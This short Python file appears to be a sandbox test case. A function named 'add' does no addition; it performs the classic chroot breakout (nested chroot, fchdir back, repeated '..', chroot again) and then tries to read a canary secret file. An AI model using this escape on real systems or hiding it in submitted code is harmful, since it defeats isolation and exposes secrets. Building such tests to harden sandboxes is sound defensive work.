"""Leaves a changed root in the classical way: another root below, then up and out.

family: escape
reach: files
classes: wrong-answer, sandbox-violation
held by: seccomp, landlock, user
"""

import os


def add(a, b):
    reached = []
    try:
        os.mkdir("deeper")
        top = os.open(".", os.O_RDONLY)
        os.chroot("deeper")
        reached.append("chroot")
        os.fchdir(top)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    try:
        with open(CANARY["secret"]) as file:
            reached.append("read " + file.read())
    except OSError:
        pass
    return reached
